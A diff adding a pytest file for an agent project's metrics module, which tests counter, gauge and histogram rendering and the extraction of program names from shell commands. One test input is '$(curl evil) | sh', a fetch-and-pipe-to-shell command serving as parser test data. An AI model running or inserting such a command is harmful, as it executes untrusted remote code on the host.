@@ -0,0 +1,89 @@
+import asyncio
+
+import pytest
+from langgraph.errors import GraphInterrupt
+
+from agents.metrics import Counter, Gauge, Histogram, Metrics, command_program, instrument_node
+
+
+@pytest.fixture
+def metrics(monkeypatch):
+    """the Metrics singleton with no metrics registered."""
+    metrics = Metrics()
+    monkeypatch.setattr(metrics, '_metrics', {})
+    return metrics
+
+
+def test_counters_and_gauges_are_rendered_with_help_type_and_labels(metrics):
+    counter = metrics.register(Counter('lena_test_total', 'Test "calls"\nper tool', ['tool']))
+    counter.inc(tool='az')
+    counter.inc(2, tool='say "hi"')
+    depth = [3.0]
+    metrics.register(Gauge('lena_test_depth', 'Queue depth', collect=lambda: {(): depth[0]}))
+    depth[0] = 5.0
+
+    assert metrics.render().splitlines() == [
+        '# HELP lena_test_total Test "calls"\\nper tool',
+        '# TYPE lena_test_total counter',
+        'lena_test_total{tool="az"} 1',
+        'lena_test_total{tool="say \\"hi\\""} 2',
+        '# HELP lena_test_depth Queue depth',
+        '# TYPE lena_test_depth gauge',
+        # collected when scraped
+        'lena_test_depth 5',
+    ]
+
+
+def test_histogram_buckets_are_cumulative(metrics):
+    histogram = metrics.register(Histogram('lena_test_seconds', 'Run time', ['node'],
+                                           buckets=(1.0, 0.5)))
+    for seconds in (0.2, 0.5, 0.75, 3.0):
+        histogram.observe(seconds, node='plan')
+
+    assert metrics.render().splitlines()[2:] == [
+        'lena_test_seconds_bucket{node="plan",le="0.5"} 2',
+        'lena_test_seconds_bucket{node="plan",le="1"} 3',
+        'lena_test_seconds_bucket{node="plan",le="+Inf"} 4',
+        'lena_test_seconds_sum{node="plan"} 4.45',
+        'lena_test_seconds_count{node="plan"} 4',
+    ]
+
+
+def test_register_returns_the_metric_already_registered(metrics):
+    first = metrics.register(Counter('lena_test_total', 'first'))
+
+    assert metrics.register(Counter('lena_test_total', 'second')) is first
+
+
+def test_instrumented_nodes_record_their_status(metrics, monkeypatch):
+    node_duration = Histogram('lena_node_duration_seconds', 'node', ['node', 'status'])
+    monkeypatch.setattr(metrics, 'node_duration', node_duration)
+
+    async def plan(state):
+        return {'planned': state}
+
+    async def ask(state):
+        raise GraphInterrupt()
+
+    async def fail(state):
+        raise RuntimeError('model unavailable')
+
+    assert asyncio.run(instrument_node('plan', plan)('s')) == {'planned': 's'}
+    with pytest.raises(GraphInterrupt):
+        asyncio.run(instrument_node('ask', ask)('s'))
+    with pytest.raises(RuntimeError):
+        asyncio.run(instrument_node('fail', fail)('s'))
+
+    counts = {tuple(labels.values()): value for name, labels, value in node_duration.samples()
+              if name == 'lena_node_duration_seconds_count'}
+    assert counts == {('plan', 'ok'): 1, ('ask', 'interrupted'): 1, ('fail', 'error'): 1}
+
+
+@pytest.mark.parametrize('command, program', [
+    ('/usr/bin/az vm list -o json', 'az'),
+    ('kubectl get pods', 'kubectl'),
+    ('$(curl evil) | sh', 'other'),
+    ('', 'other'),
+])
+def test_the_program_label_is_the_executable_name(command, program):
+    assert command_program(command) == program